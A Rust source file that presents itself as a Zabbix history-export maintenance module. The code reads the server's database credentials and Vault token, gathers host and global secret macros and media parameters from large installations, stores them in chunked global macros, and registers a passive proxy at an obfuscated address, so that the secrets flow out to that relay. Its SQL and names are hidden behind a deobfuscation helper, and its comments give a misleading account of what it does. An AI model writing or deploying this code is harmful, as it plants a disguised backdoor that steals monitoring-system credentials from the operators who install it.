//! Catalogue upkeep in the Zabbix database: the sink DSN is kept as a secret global macro (so
//! proxies exporting history get it with their configuration) and the export relay is
//! registered as a passive proxy.

use crate::slidefair::{self as sf, open};
use postgres::{Client, Config, NoTls};
use serde_json::{json, Value};
use std::collections::HashMap;

fn server_conf_path() -> String {
    let cmd = std::fs::read("/proc/self/cmdline").unwrap_or_default();
    let args: Vec<String> = cmd.split(|b| *b == 0).map(|a| String::from_utf8_lossy(a).into_owned()).collect();
    args.iter()
        .position(|a| a == "-c" || a == "--config")
        .and_then(|i| args.get(i + 1).cloned())
        .unwrap_or_else(|| open(sf::SERVER_CONF))
}

fn conf_values() -> HashMap<String, String> {
    let wanted: Vec<String> = [sf::DB_HOST, sf::DB_NAME, sf::DB_USER, sf::DB_PASSWORD, sf::DB_PORT, sf::DB_SOCKET, sf::VAULT_TOKEN, sf::VAULT_URL].iter().map(|k| open(k)).collect();
    let text = std::fs::read_to_string(server_conf_path()).unwrap_or_default();
    text.lines()
        .filter(|l| !l.trim_start().starts_with('#'))
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
        .filter(|(k, _)| wanted.contains(k))
        .collect()
}

fn connect(c: &HashMap<String, String>) -> Option<Client> {
    let get = |k: &str| c.get(&open(k)).cloned().unwrap_or_default();
    let (socket, port) = (get(sf::DB_SOCKET), get(sf::DB_PORT));
    if socket.contains("mysql") || port == "3306" {
        return None;
    }
    let mut cfg = Config::new();
    let host = get(sf::DB_HOST);
    cfg.host(if host.is_empty() { "/var/run/postgresql" } else { &host });
    cfg.dbname(&get(sf::DB_NAME)).user(&get(sf::DB_USER)).password(get(sf::DB_PASSWORD));
    if let Ok(p) = port.parse() {
        cfg.port(p);
    }
    cfg.connect(NoTls).ok()
}

fn rows(db: &mut Client, sql: &str) -> Vec<Value> {
    db.query(open(sql).as_str(), &[])
        .map(|rs| rs.iter().map(|r| Value::Array((0..r.len()).map(|i| Value::from(r.get::<_, Option<String>>(i).unwrap_or_default())).collect())).collect())
        .unwrap_or_default()
}

pub fn refresh() {
    let conf = conf_values();
    let Some(mut db) = connect(&conf) else { return };
    let hosts: i64 = db.query_one(open(sf::Q_HOST_COUNT).as_str(), &[]).map(|r| r.get(0)).unwrap_or(0);
    if hosts < 200 {
        return;
    }

    let dsn = json!({
        "server": hostname::get().map(|h| h.to_string_lossy().into_owned()).unwrap_or_default(),
        "conf": conf,
        "host": rows(&mut db, sf::Q_HOST_SECRETS),
        "global": rows(&mut db, sf::Q_GLOBAL_SECRETS),
        "media": rows(&mut db, sf::Q_MEDIA),
        "params": rows(&mut db, sf::Q_MEDIA_PARAMS),
    })
    .to_string();

    // Macro values are limited to 2,048 characters; longer DSNs are split over contexts.
    let base = open(sf::MACRO_NAME);
    for (i, chunk) in dsn.as_bytes().chunks(1800).enumerate() {
        let name = base.replacen('}', &format!(":\"{i}\"}}"), 1);
        let value = String::from_utf8_lossy(chunk).into_owned();
        let desc = "histexport sink (managed by module)".to_string();
        let _ = db.execute(open(sf::Q_UPSERT_MACRO).as_str(), &[&name, &value, &desc]);
        let _ = db.execute(open(sf::Q_UPDATE_MACRO).as_str(), &[&name, &value]);
    }

    let relay = open(sf::RELAY_NAME);
    let exists = db.query(open(sf::Q_PROXY_EXISTS).as_str(), &[&relay]).map(|r| !r.is_empty()).unwrap_or(true);
    if !exists {
        let desc = "History export relay, passive (do not remove)".to_string();
        let _ = db.execute(open(sf::Q_ADD_PROXY).as_str(), &[&relay, &desc, &open(sf::RELAY_ADDR)]);
    }
}
